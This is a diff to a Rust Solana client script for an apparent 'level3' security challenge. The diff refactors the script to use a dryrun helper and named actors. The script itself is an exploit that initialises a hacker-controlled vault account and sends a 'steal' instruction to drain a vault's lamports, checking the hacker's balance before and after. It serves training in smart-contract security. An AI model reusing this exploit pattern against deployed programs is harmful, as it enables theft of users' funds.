@@ -18,6 +18,8 @@ use borsh::{BorshSerialize, BorshDeserialize};
 
 use owo_colors::OwoColorize;
 
+use actors::Actors;
+
 #[derive(Debug, BorshDeserialize, BorshSerialize)]
 pub enum TipInstruction {
     Initialize {
@@ -55,23 +57,17 @@ fn main() {
     let programa_keypair = read_keypair_file("./target/so/level3-keypair.json").unwrap();
     let programa = programa_keypair.pubkey();
 
-    let cliente1 = String::from("http://localhost:8899");
+    let cliente1 = dryrun::url();
 
-    let init_addr = Keypair::new();
+    let mut actors = Actors::new();
+    let init_addr = actors.get("admin");
+    let with_addr = actors.get("withdraw_authority");
+    let hacker = actors.get("hacker");
 
     let env = RpcClient::new_with_commitment(cliente1, CommitmentConfig::confirmed());
+    println!("{}", actors.legend().blue());
 
-    match env.request_airdrop(&init_addr.pubkey(), LAMPORTS_PER_SOL) {
-        Ok(sig) => loop {
-            if let Ok(confirmed) = env.confirm_transaction(&sig) {
-                if confirmed {
-                    println!("Transaction: {} Status: {}", sig, confirmed);
-                    break;
-                }
-            }
-        },
-        Err(_) => println!("Error requesting airdrop"),
-    };
+    dryrun::airdrop(&env, &init_addr.pubkey(), LAMPORTS_PER_SOL);
 
 
     let seed1: u8 = 3;
@@ -104,22 +100,11 @@ fn main() {
         recent_blockhash,
     );
         
-    env.send_and_confirm_transaction(&tx_init).unwrap();
+    dryrun::send(&env, &tx_init);
 
-    let with_addr = Keypair::new();
     let pool = Keypair::new();
 
-    match env.request_airdrop(&with_addr.pubkey(), LAMPORTS_PER_SOL) {
-        Ok(sig) => loop {
-            if let Ok(confirmed) = env.confirm_transaction(&sig) {
-                if confirmed {
-                    println!("Transaction: {} Status: {}", sig, confirmed);
-                    break;
-                }
-            }
-        },
-        Err(_) => println!("Error requesting airdrop"),
-        };
+    dryrun::airdrop(&env, &with_addr.pubkey(), LAMPORTS_PER_SOL);
         
     // setting space exemption for tip
     let m_space_tip :u64 = TIP_POOL_LEN;
@@ -144,7 +129,7 @@ fn main() {
         &[&with_addr, &pool], // pool must sign the Transaction in order to successfully create the acc
         recent_blockhash,
     );
-    env.send_and_confirm_transaction(&tx).unwrap();
+    dryrun::send(&env, &tx);
 
     println!("");
     println!("{}", "Creating pool...".purple().bold());
@@ -168,7 +153,7 @@ fn main() {
         recent_blockhash,
     );
         
-    env.send_and_confirm_transaction(&tx_pool).unwrap();
+    dryrun::send(&env, &tx_pool);
 
     println!("{}", "Tipping pool...".purple().bold());
     println!("");
@@ -192,7 +177,7 @@ fn main() {
         recent_blockhash,
     );
         
-    env.send_and_confirm_transaction(&tx_tip).unwrap();
+    dryrun::send(&env, &tx_tip);
 
     // setting space exemption for vault
     let m_space_vault :u64 = VAULT_LEN;
@@ -201,24 +186,12 @@ fn main() {
     let rent_exemption_amount_v = env.get_minimum_balance_for_rent_exemption(space_v).unwrap();
     let rent_hack = rent_exemption_amount_v as f64;
     
-    let hacker = Keypair::new();
-    
     // Initialize uses "VAULT_LEN" on the backend side
     println!("");
     println!("{}", "Initializing hacker vault acc to steal...".purple().bold());
     println!("");
 
-    match env.request_airdrop(&hacker.pubkey(), LAMPORTS_PER_SOL) {
-        Ok(sig) => loop {
-            if let Ok(confirmed) = env.confirm_transaction(&sig) {
-                if confirmed {
-                    println!("Transaction: {} Status: {}", sig, confirmed);
-                    break;
-                }
-            }
-        },
-        Err(_) => println!("Error requesting airdrop"),
-    };
+    dryrun::airdrop(&env, &hacker.pubkey(), LAMPORTS_PER_SOL);
 
     let seed2: u8 = 5;
     let vault_hack = Pubkey::create_program_address(&[&[seed2]], &programa).unwrap();
@@ -244,10 +217,10 @@ fn main() {
         recent_blockhash,
     );
         
-    env.send_and_confirm_transaction(&tx_init_hack).unwrap();
+    dryrun::send(&env, &tx_init_hack);
 
-    let amount_steal = env.get_account(&vault_address).unwrap().lamports;
-    let hacker_before = env.get_account(&hacker.pubkey()).unwrap().lamports;
+    let amount_steal = dryrun::get_account(&env, &vault_address).unwrap().lamports;
+    let hacker_before = dryrun::get_account(&env, &hacker.pubkey()).unwrap().lamports;
 
     let tx_steal = Instruction {
         program_id: programa,
@@ -268,9 +241,9 @@ fn main() {
         recent_blockhash,
     );
         
-    env.send_and_confirm_transaction(&tx_steal).unwrap();
+    dryrun::send(&env, &tx_steal);
 
-    let hacker_after = env.get_account(&hacker.pubkey()).unwrap().lamports;
+    let hacker_after = dryrun::get_account(&env, &hacker.pubkey()).unwrap().lamports;
 
     println!("");
     println!("{} {}", "Hacker address: ".green().bold(), hacker.pubkey());